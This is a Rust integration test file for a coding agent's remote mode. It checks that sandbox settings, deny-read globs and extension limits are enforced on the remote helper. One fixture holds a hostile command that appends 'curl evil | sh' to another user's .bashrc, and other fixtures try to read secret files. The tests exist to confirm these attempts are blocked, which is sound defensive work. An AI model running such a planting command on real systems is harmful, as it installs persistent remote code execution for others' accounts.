    cmd.env("CODING_AGENT_DIR", &local.agent_dir)
        .current_dir(&local.cwd)
        .args(["tool", "--batch", "-", "--remote", uri])
        .args(flags);
    cmd
}

/// A `.bashrc` of the other user's, and a bash case that tries to append
/// to it and then writes in the workspace.
fn bashrc_victim(p: &Place) -> (PathBuf, Value) {
    let victim = p.home.join(".bashrc");
    std::fs::write(&victim, "# mine\n").unwrap();
    chown(&victim, OTHER);
    let case = json!({"id": "plant", "tool": "bash", "args": {"command":
        "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo in-workspace > made-here.txt; echo ran"}});
    (victim, case)
}

/// Review finding: `sandbox.mode` in the settings (no flag) did not reach
/// the remote helper, so bash there ran unconfined and could plant a line
/// in the remote user's `.bashrc`.
#[test]
fn the_settings_sandbox_confines_bash_on_the_remote() {
    if !can_switch_users() || !have_bwrap() {
        return;
    }
    let p = place(OTHER);
    let (victim, case) = bashrc_victim(&p);
    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
    let (results, _) = batch_with(&local, &remote_uri(&p, ""), &[case]);
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "# mine\n",
        "the remote .bashrc was written: {results:?}"
    );
    // Confined, not broken: the workspace is writable, and the result
    // says which sandbox ran the command.
    assert_eq!(
        std::fs::read_to_string(p.ws.join("made-here.txt")).unwrap(),
        "in-workspace\n"
    );
    let result = &results[0];
    assert!(text(result).contains("ran"), "{result}");
    assert!(
        text(result).contains(".bashrc"),
        "the write was refused: {result}"
    );
    assert_eq!(
        result["details"]["sandbox"]["mode"], "workspace-write",
        "{result}"
    );
}

/// Review finding: the user's `sandbox.denyRead` globs were lost on the
/// remote, even with `--sandbox`.
#[test]
fn the_settings_deny_globs_hold_on_the_remote() {
    if !can_switch_users() || !have_bwrap() {
        return;
    }
    let p = place(OTHER);
    std::fs::create_dir(p.ws.join("private")).unwrap();
    std::fs::write(p.ws.join("private/key.txt"), "ws-secret-7781\n").unwrap();
    std::fs::write(p.home.join("vault.txt"), "home-secret-4410\n").unwrap();
    for f in [
        p.ws.join("private"),
        p.ws.join("private/key.txt"),
        p.home.join("vault.txt"),
    ] {
        chown(&f, OTHER);
    }
    let uri = remote_uri(&p, "");
    let cases = [
        json!({"id": "read-ws", "tool": "read", "args": {"path": "private/key.txt"}}),
        json!({"id": "read-home", "tool": "read", "args": {"path": "~/vault.txt"}}),
        json!({"id": "cat", "tool": "bash", "args": {"command": "cat private/key.txt \"$HOME/vault.txt\"; echo done"}}),
        json!({"id": "grep", "tool": "grep", "args": {"pattern": "secret-"}}),
        json!({"id": "control", "tool": "read", "args": {"path": "notes.txt"}}),
    ];
    // Relative globs mean the remote workspace, `~` the remote user's
    // home; the mode from the settings, or from the flag.
    let deny = json!(["private/**", "~/vault.txt"]);
    for (settings, flags) in [
        (
            json!({"sandbox": {"mode": "workspace-write", "denyRead": deny}}),
            &[][..],
        ),
        (
            json!({"sandbox": {"denyRead": deny}}),
            &["--sandbox", "read-only"][..],
        ),
    ] {
        let local = local_with(settings);
        let (results, _) = batch_flags(&local, &uri, &cases, flags);
        let all = serde_json::to_string(&results).unwrap();
        assert!(
            !all.contains("ws-secret-7781") && !all.contains("home-secret-4410"),
            "{flags:?}: a denied file was read: {all}"
        );
        for id in ["read-ws", "read-home"] {
            let r = results.iter().find(|r| r["id"] == id).unwrap();
            assert_eq!(r["isError"], true, "{r}");
            assert!(text(r).to_lowercase().contains("sandbox"), "{r}");
        }
        let cat = results.iter().find(|r| r["id"] == "cat").unwrap();
        assert!(text(cat).contains("done"), "{cat}");
        let control = results.iter().find(|r| r["id"] == "control").unwrap();
        assert!(text(control).starts_with("alpha"), "{control}");
    }
}

/// Review finding: `-c` reconnected to the session's remote without the
/// sandbox of the settings.
#[test]
fn continuing_a_remote_session_keeps_the_sandbox() {
    if !can_switch_users() || !have_bwrap() {
        return;
    }
    let p = place(OTHER);
    let (victim, _) = bashrc_victim(&p);
    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
    let uri = remote_uri(&p, "");
    let run = |name: &str, marker: &str, extra: &[&str]| {
        let script = local.cwd.parent().unwrap().join(name);
        let command = format!("echo {marker} >> \"$HOME/.bashrc\"; echo tried");
        std::fs::write(
            &script,
            format!(
                "{}\n{}\n",
                json!({"content": [{"type": "toolCall", "id": "c1", "name": "bash", "arguments": {"command": command}}]}),
                json!({"content": [{"type": "text", "text": "done"}]})
            ),
        )
        .unwrap();
        agent_run(&local.agent_dir, &local.cwd, &script, extra)
            .into_iter()
            .next()
            .unwrap()
    };
    let first = run("first.jsonl", "first-run", &["--remote", &uri]);
    assert!(first["result"].to_string().contains("tried"), "{first}");
    // `-c` finds the remote in the session, and confines it the same way.
    let second = run("second.jsonl", "continued", &["-c"]);
    assert!(second["result"].to_string().contains("tried"), "{second}");
    assert_eq!(
        second["result"]["details"]["sandbox"]["mode"], "workspace-write",
        "{second}"
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# mine\n");
}

/// The remote's own settings only tighten: a settings file there that
/// switches the sandbox off and adds the home as a root changes nothing.
#[test]
fn the_remote_settings_cannot_widen_the_sandbox() {
    if !can_switch_users() || !have_bwrap() {
        return;
    }
    let p = place(OTHER);
    let (victim, case) = bashrc_victim(&p);
    let remote_agent = p.home.join(".pi/agent");
    std::fs::create_dir_all(&remote_agent).unwrap();
    std::fs::write(
        remote_agent.join("settings.json"),
        json!({"sandbox": {"mode": "off", "additionalDirectories": [p.home], "roots": ["."],
                           "network": true, "excludeTmp": false}})
        .to_string(),
    )
    .unwrap();
    for d in [
        p.home.join(".pi"),
        remote_agent.clone(),
        remote_agent.join("settings.json"),
    ] {
        chown(&d, OTHER);
    }
    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
    let (results, _) = batch_with(&local, &remote_uri(&p, ""), &[case]);
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "# mine\n",
        "{results:?}"
    );
    assert_eq!(results[0]["details"]["sandbox"]["mode"], "workspace-write");
    assert_eq!(
        results[0]["details"]["sandbox"]["writableRoots"],
        json!([std::fs::canonicalize(&p.ws).unwrap()]),
        "{}",
        results[0]
    );
    // It may tighten: read-only there makes the workspace read-only too.
    std::fs::write(
        remote_agent.join("settings.json"),
        json!({"sandbox": {"mode": "read-only"}}).to_string(),
    )
    .unwrap();
    let (results, _) = batch_with(
        &local,
        &remote_uri(&p, ""),
        &[json!({"id": "w", "tool": "write", "args": {"path": "tightened.txt", "content": "x"}})],
    );
    assert_eq!(results[0]["isError"], true, "{}", results[0]);
    assert!(!p.ws.join("tightened.txt").exists());
}

/// Where the remote cannot enforce the sandbox the settings ask for
/// (no bubblewrap there), the run stops with the reason instead of
/// running the tools unconfined.
#[test]
fn a_remote_that_cannot_enforce_the_sandbox_is_refused() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let (victim, case) = bashrc_victim(&p);
    // The helper runs in a mount namespace where no bubblewrap is
    // installed: every system copy is covered with /dev/null.
    let hide = "unshare -m sh -c 'for b in /usr/bin/bwrap /usr/local/bin/bwrap /bin/bwrap /usr/sbin/bwrap; do if [ -f $b ]; then mount --bind /dev/null $b || exit 1; fi; done; exec env -u CODING_AGENT_BWRAP sh -c \"$0\"' '";
    let inner = remote_uri(&p, "");
    let uri = format!("{hide}{}'", inner.trim_start_matches("exec:"));
    let uri = format!("exec:{uri}");
    let local = local_with(json!({"sandbox": {"mode": "workspace-write"}}));
    let out = run_batch(local_batch(&local, &uri, &[]), &[case]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("refused to start")
            && stderr.contains("workspace-write sandbox cannot be enforced")
            && stderr.contains("bubblewrap (bwrap) is not installed"),
        "{stderr}"
    );
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# mine\n");
    assert!(!p.ws.join("made-here.txt").exists());
}

/// Extensions run on this machine: with `--remote`, `-e` is refused with
/// why, and the agent directory's extensions are left out with a warning.
#[test]
fn extensions_are_not_run_beside_a_remote() {
    if !can_switch_users() {
        return;
    }
    let p = place(OTHER);
    let uri = exec_uri(&p, OTHER);
    let local = tempfile::tempdir().unwrap();
    let agent_dir = local.path().join("agent");
    let here = local.path().join("here");
    std::fs::create_dir_all(agent_dir.join("extensions")).unwrap();
    std::fs::create_dir_all(&here).unwrap();
    let ext = agent_dir.join("extensions/tool.sh");
    std::fs::write(&ext, "#!/bin/sh\nexit 1\n").unwrap();
    std::fs::set_permissions(&ext, std::fs::Permissions::from_mode(0o755)).unwrap();
    let script = local.path().join("s.jsonl");
    std::fs::write(
        &script,
        "{\"content\":[{\"type\":\"text\",\"text\":\"ok\"}]}\n",
    )
    .unwrap();
    let run = |extra: &[&str]| {
        Command::new(bin())
            .env("CODING_AGENT_DIR", &agent_dir)
            .arg("--cwd")
            .arg(&here)
            .arg("--script")
            .arg(&script)
            .args(["--remote", &uri])
            .args(extra)
            .args(["-p", "go"])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let refused = run(&["-e", ext.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains("-e cannot be used with --remote"),
        "{stderr}"
    );
    let ran = run(&[]);
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(ran.status.success(), "{stderr}");
    assert!(
        stderr.contains("extensions are not loaded with --remote"),
        "{stderr}"
    );
    assert_eq!(String::from_utf8_lossy(&ran.stdout).trim(), "ok");
}
